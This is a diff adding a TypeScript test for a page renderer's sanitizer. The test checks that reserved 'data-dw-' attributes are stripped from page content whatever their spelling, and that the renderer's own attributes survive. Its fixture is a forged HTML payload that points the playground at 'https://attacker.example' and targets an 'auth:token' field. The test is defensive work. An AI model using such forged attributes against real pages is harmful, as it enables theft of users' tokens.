@@ -4,6 +4,7 @@ import { test } from 'node:test';
 import { Project } from '../../server/src/project';
 import { renderPreview } from '../../server/src/render/preview';
 import { codeTitle, renderPage } from '../../server/src/render/page';
+import { cleanHtml, own, sanitizeTree } from '../../server/src/render/sanitize';
 import { parsePage } from '../../server/src/pages/parse';
 import { COMPONENTS } from '../../server/src/components/catalog';
 import { MemoryWorkspace } from '../../server/src/workspace';
@@ -230,4 +231,17 @@ test('a line of catalogue components stays a paragraph exactly when the catalogu
     const { html } = renderPage({ page, rel: 'a.mdx', pages: new Map([['a', 'a.mdx']]), files: new Set(['a.mdx']), target: { pageHref: (id) => `${id}.html`, assetUrl: (r) => r } });
     assert.equal(html.startsWith('<p'), c.inline === true, `<${c.name}>: ${html.slice(0, 80)}`);
   }
+});
+
+test('page content never keeps a reserved data-dw- attribute of the renderer\'s scripts, however it is spelt; the renderer\'s own are put in after sanitising', async () => {
+  const forged = '<div data-dw-playground="x" data-DW-pg-bases=\'["https://attacker.example"]\' data-dw-pg-send="" data-dw="" data-keep="yes"><button data-dw-pg-field="auth:token" dataDwPgSend="">Send</button></div>\n\n<span data-Dw-line="3">x</span>';
+  const { page } = await render(FM('Forged') + forged);
+  assert.match(page.html, /data-keep="yes"/, 'other data attributes stay');
+  assert.doesNotMatch(page.html, /data-?dw/i);
+  const tree = { type: 'root' as const, children: [{ type: 'element' as const, tagName: 'div', properties: { dataDwPlayground: 'a', 'data-dw-pg-send': '', 'DATA-DW-PG-PATH': '/x', dataDw: '', title: 't' }, children: [] }] };
+  const clean = sanitizeTree(tree);
+  assert.deepEqual(clean.children.map((c) => (c.type === 'element' ? c.properties : undefined)), [{ title: 't' }]);
+  const mine = own({ type: 'element', tagName: 'div', properties: {}, children: [] }, { dataDwPlayground: 'k' });
+  assert.equal(cleanHtml(sanitizeTree({ type: 'root', children: [mine] })), '<div data-dw-playground="k"></div>');
+  assert.throws(() => own(mine, { dataPlayground: '' }), /not a reserved attribute/);
 });
